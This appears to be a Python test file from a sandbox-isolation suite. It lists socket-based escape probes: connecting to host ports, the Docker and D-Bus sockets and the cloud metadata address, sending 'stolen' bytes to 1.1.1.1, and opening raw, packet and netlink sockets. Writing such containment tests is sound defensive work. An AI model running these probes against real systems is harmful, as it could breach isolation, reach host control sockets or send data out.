"""Attacks over sockets: to the host, to the network, and by the ways that are no network."""

from tests.hostile.attack import Attack

AWAY = "tests stay on this machine"

NETWORK = (
    Attack(
        "connect to a TCP port of the host",
        """
import socket
for family, host, port in ((2, "127.0.0.1", SCENE["tcp"]), (10, "::1", SCENE["tcp6"])):
    with suppress(OSError), socket.socket(family) as client:
        client.settimeout(1)
        client.connect((host, port))
        reached("connected to", host)
""",
    ),
    Attack(
        "send UDP to the host",
        """
import socket
with suppress(OSError), socket.socket(type=socket.SOCK_DGRAM) as client:
    client.sendto(b"stolen", ("127.0.0.1", SCENE["udp"]))
""",
    ),
    Attack(
        "connect to an abstract socket of the host",
        """
import socket
with suppress(OSError), socket.socket(socket.AF_UNIX) as client:
    client.connect("\\0" + SCENE["abstract"])
    reached("connected")
""",
    ),
    Attack(
        "connect to a socket file of the host",
        """
import socket
places = [SCENE["path"], "/run/docker.sock", "/var/run/docker.sock", "/run/dbus/system_bus_socket"]
for place in places:
    with suppress(OSError), socket.socket(socket.AF_UNIX) as client:
        client.connect(place)
        reached("connected to", place)
""",
    ),
    Attack(
        "ask the name server",
        """
import socket
if SCENE["contained"]:
    with suppress(OSError):
        reached(socket.getaddrinfo("example.com", 443))
with suppress(OSError):
    if any(line.startswith("nameserver") for line in open("/etc/resolv.conf")):
        reached("knows the name server")
""",
    ),
    Attack(
        "connect to the internet",
        """
import socket
for family, host in ((2, "1.1.1.1"), (2, "169.254.169.254"), (10, "2606:4700:4700::1111")):
    with suppress(OSError), socket.socket(family) as client:
        client.settimeout(1)
        client.connect((host, 443))
        reached("connected to", host)
with suppress(OSError), socket.socket(type=socket.SOCK_DGRAM) as client:
    client.sendto(b"stolen", ("1.1.1.1", 53))
    reached("sent")
""",
        uncontrolled=AWAY,
    ),
    Attack(
        "see the host's network",
        """
names = [line.split(":")[0].strip() for line in Path("/proc/net/dev").read_text().splitlines()[2:]]
if set(names) - {"lo"}:
    reached(names)
if any("0A" == line.split()[3] for line in Path("/proc/net/tcp").read_text().splitlines()[1:]):
    reached("sees who listens")
""",
    ),
    Attack(
        "open a netlink socket",
        """
import socket
with suppress(OSError), socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as link:
    link.bind((0, 0))
    reached("opened")
""",
    ),
    Attack(
        "open a packet socket",
        """
import socket
with suppress(OSError), socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0x0300):
    reached("opened")
with suppress(OSError), socket.socket(socket.AF_INET, socket.SOCK_RAW, 1):
    reached("opened a raw socket")
""",
        control_needs_root=True,
    ),
    Attack(
        "open a vsock or a kernel crypto socket",
        """
import socket
for family, kind in ((40, socket.SOCK_STREAM), (38, socket.SOCK_SEQPACKET), (16, 3), (44, 3)):
    with suppress(OSError), socket.socket(family, kind):
        reached("opened family", family)
""",
    ),
)
